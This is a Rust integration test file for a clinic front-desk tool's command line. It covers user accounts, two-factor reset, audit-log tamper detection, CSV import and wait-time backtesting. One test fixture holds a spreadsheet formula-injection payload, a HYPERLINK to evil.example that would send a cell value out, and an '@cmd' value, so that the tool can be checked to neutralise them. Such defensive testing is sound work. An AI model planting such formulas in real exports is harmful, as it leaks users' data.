//! The command line as an administrator uses it.

mod common;

use common::*;

fn text(out: &std::process::Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

#[test]
fn user_add_checks_the_password_role_and_name() {
    let dir = tempfile::tempdir().unwrap();
    let ok = frontdesk(
        dir.path(),
        &[
            "user",
            "add",
            "maria",
            "--role",
            "front_desk",
            "--password-stdin",
        ],
        Some("twelve chars ok\n"),
    );
    assert!(ok.status.success(), "{}", text(&ok));
    assert!(text(&ok).contains("Added maria (Front desk)"));
    let again = frontdesk(
        dir.path(),
        &[
            "user",
            "add",
            "maria",
            "--role",
            "admin",
            "--password-stdin",
        ],
        Some("another long one\n"),
    );
    assert!(!again.status.success());
    assert!(text(&again).contains("already exists"), "{}", text(&again));
    let short = frontdesk(
        dir.path(),
        &["user", "add", "bob", "--role", "admin", "--password-stdin"],
        Some("short\n"),
    );
    assert!(!short.status.success());
    assert!(text(&short).contains("at least 12 characters"));
    let role = frontdesk(
        dir.path(),
        &["user", "add", "bob", "--role", "doctor", "--password-stdin"],
        Some("long enough pass\n"),
    );
    assert!(!role.status.success());
    assert!(text(&role).contains("unknown role"));
    let list = frontdesk(dir.path(), &["user", "list"], None);
    assert_eq!(
        String::from_utf8_lossy(&list.stdout).trim(),
        "maria\tfront_desk"
    );
}

#[test]
fn a_trailing_newline_is_not_part_of_the_password() {
    let dir = tempfile::tempdir().unwrap();
    let ok = frontdesk(
        dir.path(),
        &[
            "user",
            "add",
            "maria",
            "--role",
            "manager",
            "--password-stdin",
        ],
        Some("exactly this pw\r\n"),
    );
    assert!(ok.status.success(), "{}", text(&ok));
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        let (mut server, url) = serve(dir.path()).await;
        let token = login(&url, "maria", "exactly this pw").await;
        assert!(!token.is_empty());
        server.kill().unwrap();
        server.wait().unwrap();
    });
}

#[test]
fn a_name_added_in_capitals_is_kept_in_lowercase_and_signs_in_either_way() {
    let dir = tempfile::tempdir().unwrap();
    let add = frontdesk(
        dir.path(),
        &[
            "user",
            "add",
            "Maria",
            "--role",
            "front_desk",
            "--password-stdin",
        ],
        Some("twelve chars ok\n"),
    );
    assert!(add.status.success(), "{}", text(&add));
    assert!(
        text(&add).contains("Added maria (Front desk)"),
        "{}",
        text(&add)
    );
    let list = frontdesk(dir.path(), &["user", "list"], None);
    assert_eq!(
        String::from_utf8_lossy(&list.stdout).trim(),
        "maria\tfront_desk"
    );
    let again = frontdesk(
        dir.path(),
        &[
            "user",
            "add",
            "MARIA",
            "--role",
            "admin",
            "--password-stdin",
        ],
        Some("another long one\n"),
    );
    assert!(text(&again).contains("already exists"), "{}", text(&again));
    let bad = frontdesk(
        dir.path(),
        &[
            "user",
            "add",
            "maria lopez",
            "--role",
            "admin",
            "--password-stdin",
        ],
        Some("another long one\n"),
    );
    assert!(!bad.status.success());
    assert!(
        text(&bad).contains(
            "username: Use only the letters a to z, digits, dots, dashes and underscores"
        ),
        "{}",
        text(&bad)
    );
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        let (mut server, url) = serve(dir.path()).await;
        for typed in ["maria", "Maria", " MARIA "] {
            assert!(!login(&url, typed, "twelve chars ok").await.is_empty());
        }
        server.kill().unwrap();
        server.wait().unwrap();
    });
}

#[test]
fn import_reports_bad_rows_by_line_and_imports_nothing_by_default() {
    let dir = tempfile::tempdir().unwrap();
    let csv = dir.path().join("day.csv");
    std::fs::write(
        &csv,
        "appointment_id,location,provider,visit_type,scheduled_at,duration_min,given_name,family_name,date_of_birth,phone,email\n\
         A-1,main,dr-lee,,2026-03-05T09:00,15,Ana,Moreno,1980-01-01,,\n\
         A-2,main,dr-lee,,not a time,15,Bea,Ruiz,,,\n\
         A-3,main,dr-lee,,2026-03-05T09:40,15,Cy,Lo,,,cy@\n",
    )
    .unwrap();
    let path = csv.to_str().unwrap();
    let out = frontdesk(dir.path(), &["import", "appointments", path], None);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    let t = text(&out);
    assert!(
        t.contains("line 3: scheduled_at: Time not understood"),
        "{t}"
    );
    assert!(t.contains("line 4: email: Email address invalid"), "{t}");
    assert!(t.contains("Nothing imported"));
    let out = frontdesk(
        dir.path(),
        &["import", "appointments", path, "--skip-bad-rows"],
        None,
    );
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        text(&out).contains("Imported 1 appointment(s); 0 already present; 2 bad row(s) skipped.")
    );
    let out = frontdesk(
        dir.path(),
        &["import", "appointments", path, "--skip-bad-rows"],
        None,
    );
    assert!(text(&out).contains("Imported 0 appointment(s); 1 already present"));
}

#[test]
fn config_prints_the_effective_settings_with_secrets_masked() {
    let dir = tempfile::tempdir().unwrap();
    let out = std::process::Command::new(BIN)
        .args([
            "config",
            "--database",
            "postgres://fd:s3cret@db.example/fd",
            "--data-dir",
        ])
        .arg(dir.path())
        .env("FRONTDESK_ACK_FIRST_WITHIN", "90s")
        .env("FRONTDESK_TIME_ZONE", "America/Chicago")
        .output()
        .unwrap();
    let t = text(&out);
    assert!(out.status.success(), "{t}");
    assert!(t.contains("postgres://fd:****@db.example/fd"));
    assert!(!t.contains("s3cret"));
    assert!(t.contains("ack_first_within = \"1m30s\""));
    assert!(t.contains("time_zone = \"America/Chicago\""));
    assert!(t.contains("arrival_reminder = \"2h\""), "{t}");
    let bad = std::process::Command::new(BIN)
        .args(["config", "--data-dir"])
        .arg(dir.path())
        .env("FRONTDESK_ACK_RECHECK_EVERY", "whenever")
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2));
    assert!(text(&bad).contains("ack_recheck_every"));
    let bad = std::process::Command::new(BIN)
        .args(["config", "--data-dir"])
        .arg(dir.path())
        .env("FRONTDESK_ARRIVAL_REMINDER", "tea time")
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2));
    assert!(text(&bad).contains("arrival_reminder"), "{}", text(&bad));
}

#[tokio::test]
async fn reset_2fa_lets_an_admin_who_lost_their_phone_set_one_up_again() {
    use frontdesk_domain::second_factor::{code_at, secret_key};
    let dir = tempfile::tempdir().unwrap();
    let password = "lost phone password";
    let add = frontdesk(
        dir.path(),
        &["user", "add", "ann", "--role", "admin", "--password-stdin"],
        Some(password),
    );
    assert!(add.status.success(), "{}", text(&add));
    let (mut server, url) = serve(dir.path()).await;
    let client = reqwest::Client::new();
    let sign_in = |code: Option<String>| {
        let client = client.clone();
        let url = url.clone();
        async move {
            let mut body = serde_json::json!({"username": "ann", "password": password});
            if let Some(code) = code {
                body["code"] = code.into();
            }
            let resp = client
                .post(format!("{url}/api/v1/sessions"))
                .json(&body)
                .send()
                .await
                .unwrap();
            let status = resp.status().as_u16();
            (status, resp.json::<serde_json::Value>().await.unwrap())
        }
    };
    let api = |token: String, path: &'static str| {
        let (client, url) = (client.clone(), url.clone());
        async move {
            let resp = client
                .post(format!("{url}/api/v1{path}"))
                .bearer_auth(token)
                .json(&serde_json::json!({}))
                .send()
                .await
                .unwrap();
            let status = resp.status().as_u16();
            (status, resp.json::<serde_json::Value>().await.unwrap())
        }
    };

    // Ann sets up a second factor…
    let (_, body) = sign_in(None).await;
    let token = body["token"].as_str().unwrap().to_string();
    let (status, offered) = api(token.clone(), "/me/totp").await;
    assert_eq!(status, 200, "{offered}");
    let key = secret_key(offered["secret"].as_str().unwrap()).unwrap();
    let confirmed = client
        .post(format!("{url}/api/v1/me/totp/confirm"))
        .bearer_auth(&token)
        .json(&serde_json::json!({"code": code_at(&key, chrono::Utc::now())}))
        .send()
        .await
        .unwrap();
    assert_eq!(confirmed.status().as_u16(), 200);
    let (status, body) = sign_in(None).await;
    assert_eq!(status, 401);
    assert_eq!(body["error"]["code"], "second_factor_required");

    // …loses her phone; the reset works while the server runs.
    let reset = frontdesk(dir.path(), &["user", "reset-2fa", "Ann"], None);
    assert!(reset.status.success(), "{}", text(&reset));
    assert!(
        text(&reset).contains("Removed the second factor of ann"),
        "{}",
        text(&reset)
    );
    // The password alone signs in again, to a session that can only enroll.
    let (status, body) = sign_in(None).await;
    assert_eq!(status, 200, "{body}");
    let token = body["token"].as_str().unwrap().to_string();
    let (status, body) = api(token.clone(), "/visits").await;
    assert_eq!(status, 403, "{body}");
    assert_eq!(body["error"]["code"], "second_factor_enrollment_required");
    let (status, _) = api(token, "/me/totp").await;
    assert_eq!(status, 200);
    server.kill().unwrap();
    let _ = server.wait();

    // The key offered and not confirmed goes too; after that there is none.
    let again = frontdesk(dir.path(), &["user", "reset-2fa", "ann"], None);
    assert!(text(&again).contains("Removed the second factor of ann"));
    let again = frontdesk(dir.path(), &["user", "reset-2fa", "ann"], None);
    assert!(again.status.success());
    assert!(text(&again).contains("ann had no second factor"));
    let nobody = frontdesk(dir.path(), &["user", "reset-2fa", "nobody"], None);
    assert!(!nobody.status.success());
    assert!(text(&nobody).contains("no staff account named nobody"));
}

#[test]
fn audit_verify_passes_an_intact_log_and_names_the_first_bad_row() {
    let dir = tempfile::tempdir().unwrap();
    let verify = || frontdesk(dir.path(), &["audit", "verify"], None);
    let none = verify();
    assert_eq!(none.status.code(), Some(1), "{}", text(&none));
    assert!(text(&none).contains("no database at"), "{}", text(&none));
    // Each account added writes one audit row.
    for name in ["maria", "li", "sam"] {
        let out = frontdesk(
            dir.path(),
            &[
                "user",
                "add",
                name,
                "--role",
                "front_desk",
                "--password-stdin",
            ],
            Some("twelve chars ok\n"),
        );
        assert!(out.status.success(), "{}", text(&out));
    }
    let ok = verify();
    assert_eq!(ok.status.code(), Some(0), "{}", text(&ok));
    let said = String::from_utf8_lossy(&ok.stdout).to_string();
    assert!(
        said.starts_with("Audit log intact: 3 row(s) checked. Chain head: row 3, hash "),
        "{said}"
    );

    let db = rusqlite::Connection::open(dir.path().join("frontdesk.db")).unwrap();
    db.execute(
        "UPDATE audit_log SET subject = 'user:mallory' WHERE id = 2",
        [],
    )
    .unwrap();
    let changed = verify();
    assert_eq!(changed.status.code(), Some(3), "{}", text(&changed));
    assert!(
        text(&changed).contains(
            "audit log broken: row 2 does not match its hash: it was changed after it was written. \
             1 row(s) before it verified."
        ),
        "{}",
        text(&changed)
    );
    db.execute("DELETE FROM audit_log WHERE id = 2", [])
        .unwrap();
    let deleted = verify();
    assert_eq!(deleted.status.code(), Some(3));
    assert!(
        text(&deleted).contains("row 3 does not follow row 1"),
        "{}",
        text(&deleted)
    );
    db.execute("DELETE FROM audit_log WHERE id = 3", [])
        .unwrap();
    let tail = verify();
    assert_eq!(tail.status.code(), Some(3));
    assert!(text(&tail).contains("row 3 is missing"), "{}", text(&tail));
}

#[test]
fn help_lists_the_commands() {
    let out = std::process::Command::new(BIN)
        .arg("--help")
        .output()
        .unwrap();
    let t = text(&out);
    for command in [
        "serve", "demo", "user", "import", "audit", "config", "backup", "restore",
    ] {
        assert!(t.contains(command), "{t}");
    }
}

#[test]
fn each_command_shows_only_its_own_options() {
    let help = |args: &[&str]| {
        let out = std::process::Command::new(BIN)
            .args(args)
            .arg("--help")
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", text(&out));
        text(&out)
    };
    let serve = help(&["serve"]);
    for option in [
        "--addr",
        "--data-dir",
        "--database",
        "--time-zone",
        "--secure-cookies",
        "--outbox-smtp-addr",
        "--outbox-webhook-url",
        "--arrival-reminder",
    ] {
        assert!(
            serve.contains(option),
            "serve --help lacks {option}: {serve}"
        );
    }
    for command in [&["backtest"][..], &["simulate"], &["tone"]] {
        let t = help(command);
        for server_only in [
            "smtp",
            "cookie",
            "webhook",
            "--addr",
            "--data-dir",
            "--database",
        ] {
            assert!(!t.contains(server_only), "{command:?} --help: {t}");
        }
    }
    assert!(help(&["backtest"]).contains("--time-zone"));
    for command in [
        &["user", "add"][..],
        &["user", "list"],
        &["user", "reset-2fa"],
        &["import", "appointments"],
        &["audit", "verify"],
        &["backup"],
        &["restore"],
    ] {
        let t = help(command);
        assert!(t.contains("--data-dir") && t.contains("--database"), "{t}");
        for server_only in ["smtp", "cookie", "webhook", "--addr"] {
            assert!(!t.contains(server_only), "{command:?} --help: {t}");
        }
    }
    // The environment still reaches the commands that use it.
    let out = std::process::Command::new(BIN)
        .args(["backtest", "--visits", "/nonexistent.csv"])
        .env("FRONTDESK_TIME_ZONE", "Mars/Olympus")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(text(&out).contains("time_zone: unknown time zone"));
}

fn run(args: &[&str]) -> std::process::Output {
    std::process::Command::new(BIN)
        .args(args)
        .env("FRONTDESK_TIME_ZONE", "UTC")
        .output()
        .unwrap()
}

#[test]
fn simulate_then_backtest_reports_kept_rate_and_baselines() {
    let dir = tempfile::tempdir().unwrap();
    let history = dir.path().join("walk-in.csv");
    let quotes = dir.path().join("quotes.csv");
    let out = run(&[
        "simulate",
        "--scenario",
        "walk-in",
        "--days",
        "10",
        "--seed",
        "4",
        "--out",
        history.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", text(&out));
    let out = run(&[
        "backtest",
        "--visits",
        history.to_str().unwrap(),
        "--quotes-out",
        quotes.to_str().unwrap(),
        "--json",
    ]);
    assert!(out.status.success(), "{}", text(&out));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    for key in ["quoted", "kept_rate", "slack_median_min", "slack_p90_min"] {
        assert!(report[key].is_number(), "{key}: {report}");
        assert!(
            report["baselines"]["rolling_mean"][key].is_number(),
            "{key}"
        );
        for baseline in [
            "scheduled",
            "rolling_mean_padded",
            "bucket_quantile",
            "bucket_quantile_padded",
        ] {
            assert!(
                report["baselines"][baseline][key].is_number(),
                "{baseline} {key}"
            );
        }
    }
    assert!(report["best_baseline"].is_string(), "{report}");
    assert!(report["slack_vs_best_baseline"].is_number(), "{report}");
    assert!(report["worst_group"]["priority"]["kept_rate"].is_number());
    let kept = report["kept_rate"].as_f64().unwrap();
    assert!((0.85..=0.97).contains(&kept), "{report}");

    // Per priority: every triage level is a group, and the groups add up.
    let out = run(&[
        "backtest",
        "--visits",
        history.to_str().unwrap(),
        "--json",
        "--by",
        "priority",
    ]);
    assert!(out.status.success(), "{}", text(&out));
    let by: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let groups = by["by"]["priority"].as_array().unwrap();
    let names: Vec<&str> = groups
        .iter()
        .map(|g| g["group"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["1", "2", "3", "4", "5"], "{by}");
    let total: u64 = groups.iter().map(|g| g["quoted"].as_u64().unwrap()).sum();
    assert_eq!(total, report["seen"].as_u64().unwrap());
    let out = run(&[
        "backtest",
        "--visits",
        history.to_str().unwrap(),
        "--by",
        "weekday",
    ]);
    assert!(!out.status.success());
    assert!(text(&out).contains("--by"), "{}", text(&out));

    // One quote per arrival, quoted at the arrival exactly as written.
    let history_text = std::fs::read_to_string(&history).unwrap();
    let arrived: std::collections::HashMap<String, String> = history_text
        .lines()
        .skip(1)
        .map(|l| l.split(',').collect::<Vec<_>>())
        .filter(|f| !f[6].is_empty())
        .map(|f| (f[0].to_string(), f[6].to_string()))
        .collect();
    let quotes_text = std::fs::read_to_string(&quotes).unwrap();
    let mut lines = quotes_text.lines();
    assert_eq!(lines.next(), Some("visit_id,quoted_at,promised_by"));
    let rows: Vec<Vec<&str>> = lines.map(|l| l.split(',').collect()).collect();
    assert_eq!(rows.len(), arrived.len());
    assert_eq!(report["quoted"].as_u64().unwrap() as usize, rows.len());
    for r in &rows {
        assert_eq!(arrived[r[0]], r[1]);
        assert!(r[2] >= r[1], "a promise before the arrival: {r:?}");
        assert!(
            r[2].ends_with(":00") && ["0", "5"].contains(&&r[2][15..16]),
            "rounded to 5 minutes: {r:?}"
        );
    }
}

#[test]
fn backtest_quotes_neutralise_formulas_and_keep_times() {
    let dir = tempfile::tempdir().unwrap();
    let history = dir.path().join("h.csv");
    let quotes = dir.path().join("q.csv");
    std::fs::write(
        &history,
        "visit_id,location,provider,visit_type,priority,scheduled_at,arrived_at,seen_at,done_at,outcome\n\
         \"=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Open\"\")\",main,,,,,2024-03-05T09:00:00,2024-03-05T09:20:00,,seen\n\
         -12,main,,,,,2024-03-05T09:05:00,2024-03-05T09:30:00,,seen\n\
         @cmd,main,,,,,2024-03-05T09:10:00+01:00,2024-03-05T09:40:00+01:00,,seen\n\
         a-1,main,,,,,2024-03-05T09:15:00,2024-03-05T09:45:00,,seen\n",
    )
    .unwrap();
    let out = run(&[
        "backtest",
        "--visits",
        history.to_str().unwrap(),
        "--quotes-out",
        quotes.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", text(&out));
    let mut reader = csv::Reader::from_path(&quotes).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let ids: Vec<&str> = rows.iter().map(|r| &r[0]).collect();
    assert_eq!(
        ids,
        [
            "'=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")",
            "-12",
            "'@cmd",
            "a-1"
        ],
        "formulas neutralised, a plain number and plain text left alone"
    );
    let quoted: Vec<&str> = rows.iter().map(|r| &r[1]).collect();
    assert_eq!(
        quoted,
        [
            "2024-03-05T09:00:00",
            "2024-03-05T09:05:00",
            "2024-03-05T09:10:00+01:00",
            "2024-03-05T09:15:00"
        ],
        "times as written"
    );
    for r in &rows {
        let promised = &r[2];
        let time = promised.get(..19).unwrap_or_default();
        assert!(
            chrono::NaiveDateTime::parse_from_str(time, "%Y-%m-%dT%H:%M:%S").is_ok(),
            "a time: {promised:?}"
        );
        assert!(!promised.starts_with('\''), "{promised:?}");
    }
}

#[test]
fn backtest_refuses_bad_rows_unless_told_to_skip_them() {
    let dir = tempfile::tempdir().unwrap();
    let history = dir.path().join("h.csv");
    let quotes = dir.path().join("q.csv");
    std::fs::write(
        &history,
        "visit_id,location,provider,visit_type,priority,scheduled_at,arrived_at,seen_at,done_at,outcome\n\
         a,main,,,,,2024-03-05T09:00:00,2024-03-05T09:20:00,,seen\n\
         b,main,,,,,2024-03-05T09:10:00,2024-03-05T09:05:00,,seen\n\
         c,main,,,,,not a time,,,seen\n\
         d,main,,,,,2024-03-05T09:30:00+01:00,,,left\n",
    )
    .unwrap();
    let args = [
        "backtest",
        "--visits",
        history.to_str().unwrap(),
        "--quotes-out",
        quotes.to_str().unwrap(),
    ];
    let out = run(&args);
    assert_eq!(out.status.code(), Some(2));
    let t = text(&out);
    assert!(t.contains("line 3: seen_at: Seen before arriving"), "{t}");
    assert!(t.contains("line 4: arrived_at: Time not understood"), "{t}");
    assert!(!quotes.exists(), "nothing written");
    let mut skip = args.to_vec();
    skip.push("--skip-bad-rows");
    let out = run(&skip);
    assert!(out.status.success(), "{}", text(&out));
    let q = std::fs::read_to_string(&quotes).unwrap();
    let rows: Vec<&str> = q.lines().collect();
    assert_eq!(rows.len(), 3);
    assert!(rows[1].starts_with("a,2024-03-05T09:00:00,2024-03-05T"));
    // A time written with an offset is answered with the same offset.
    assert!(
        rows[2].starts_with("d,2024-03-05T09:30:00+01:00,2024-03-05T")
            && rows[2].ends_with("+01:00"),
        "{}",
        rows[2]
    );
    let out = run(&[
        "backtest",
        "--visits",
        history.to_str().unwrap(),
        "--quantile",
        "1.5",
    ]);
    assert!(!out.status.success());
    assert!(text(&out).contains("--quantile"));
}

#[test]
fn backtest_quotes_do_not_depend_on_the_future() {
    let dir = tempfile::tempdir().unwrap();
    let history = dir.path().join("h.csv");
    run(&[
        "simulate",
        "--scenario",
        "clinic",
        "--days",
        "3",
        "--seed",
        "9",
        "--out",
        history.to_str().unwrap(),
    ]);
    let original = std::fs::read_to_string(&history).unwrap();
    let quotes_of = |csv: &str| {
        let path = dir.path().join("x.csv");
        let q = dir.path().join("xq.csv");
        std::fs::write(&path, csv).unwrap();
        let out = run(&[
            "backtest",
            "--visits",
            path.to_str().unwrap(),
            "--quotes-out",
            q.to_str().unwrap(),
        ]);
        assert!(out.status.success(), "{}", text(&out));
        std::fs::read_to_string(q).unwrap()
    };
    let before = quotes_of(&original);
    // Everything that happens after noon on the last day changes: those
    // visits are seen an hour later (and done time dropped).
    let cutoff = "2026-01-07T12:00:00";
    let shift = |t: &str| {
        let parsed = chrono::NaiveDateTime::parse_from_str(t, "%Y-%m-%dT%H:%M:%S").unwrap();
        (parsed + chrono::Duration::hours(1))
            .format("%Y-%m-%dT%H:%M:%S")
            .to_string()
    };
    let changed: String = original
        .lines()
        .map(|l| {
            let mut f: Vec<String> = l.split(',').map(String::from).collect();
            if f[6].starts_with("20") && f[6].as_str() > cutoff && !f[7].is_empty() {
                f[7] = shift(&f[7]);
                f[8] = String::new();
            }
            f.join(",")
        })
        .collect::<Vec<_>>()
        .join("\n");
    let after = quotes_of(&changed);
    let mut later_changed = 0;
    for (a, b) in before.lines().zip(after.lines()) {
        if a.split(',').nth(1).is_some_and(|q| q <= cutoff) {
            assert_eq!(a, b, "a quote changed because of the future");
        } else if a != b {
            later_changed += 1;
        }
    }
    assert!(
        later_changed > 0,
        "the change must have mattered to later quotes, or this test proves nothing"
    );
}

#[test]
fn locations_are_added_and_staff_are_given_theirs() {
    let dir = tempfile::tempdir().unwrap();
    let added = frontdesk(
        dir.path(),
        &[
            "location",
            "add",
            "north",
            "--name",
            "North clinic",
            "--time-zone",
            "Europe/London",
        ],
        None,
    );
    assert!(added.status.success(), "{}", text(&added));
    assert!(text(&added).contains("Added north (North clinic, Europe/London)"));
    let zone = frontdesk(
        dir.path(),
        &[
            "location",
            "add",
            "east",
            "--name",
            "East",
            "--time-zone",
            "Mars/Olympus",
        ],
        None,
    );
    assert!(!zone.status.success());
    assert!(text(&zone).contains("IANA"), "{}", text(&zone));
    let again = frontdesk(
        dir.path(),
        &[
            "location",
            "add",
            "north",
            "--name",
            "N",
            "--time-zone",
            "UTC",
        ],
        None,
    );
    assert!(!again.status.success());
    assert!(text(&again).contains("already exists"), "{}", text(&again));
    let list = frontdesk(dir.path(), &["location", "list"], None);
    assert!(
        text(&list).contains("main\t")
            && text(&list).contains("north\tNorth clinic\tEurope/London")
    );

    let nora = frontdesk(
        dir.path(),
        &[
            "user",
            "add",
            "nora",
            "--role",
            "front_desk",
            "--location",
            "north",
            "--location",
            "main",
            "--password-stdin",
        ],
        Some("twelve chars ok\n"),
    );
    assert!(nora.status.success(), "{}", text(&nora));
    let nowhere = frontdesk(
        dir.path(),
        &[
            "user",
            "add",
            "nils",
            "--role",
            "front_desk",
            "--location",
            "south",
            "--password-stdin",
        ],
        Some("twelve chars ok\n"),
    );
    assert!(!nowhere.status.success());
    assert!(
        text(&nowhere).contains("Unknown location"),
        "{}",
        text(&nowhere)
    );
    let users = frontdesk(dir.path(), &["user", "list"], None);
    assert!(
        text(&users).contains("nora\tfront_desk\tat main, north"),
        "{}",
        text(&users)
    );
}
